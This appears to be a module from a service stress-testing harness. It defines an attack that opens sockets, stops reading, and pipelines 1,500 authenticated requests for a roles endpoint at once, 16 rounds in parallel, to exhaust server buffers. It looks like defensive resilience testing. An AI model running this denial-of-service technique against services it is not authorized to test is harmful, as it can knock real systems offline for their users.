// Pipelines requests with large responses and reads nothing.
import type { Attack } from './attack.ts'
import { closed, httpGet } from './sockets.ts'

const requestCount = 1500

export const unreadPipeline: Attack = {
  parallel: 16,
  async round(target) {
    await target.take(requestCount)
    const socket = await target.open()
    socket.pause()
    const request = httpGet('/iam/v2beta1/roles', `Authorization: ${target.tenant.authorization}`)
    socket.write(request.repeat(requestCount))
    await closed(socket)
  },
}
